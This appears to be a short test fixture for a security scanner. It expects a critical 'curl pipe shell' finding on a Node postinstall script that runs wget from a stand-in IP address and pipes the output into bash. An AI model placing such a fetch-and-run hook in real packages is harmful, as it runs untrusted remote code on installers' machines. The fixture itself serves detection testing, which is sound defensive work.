# expect: shell.curl_pipe_shell critical
# path: scripts/postinstall.ts
import { exec } from "node:child_process";
exec(`wget -qO- https://203.0.113.9/x | bash`);
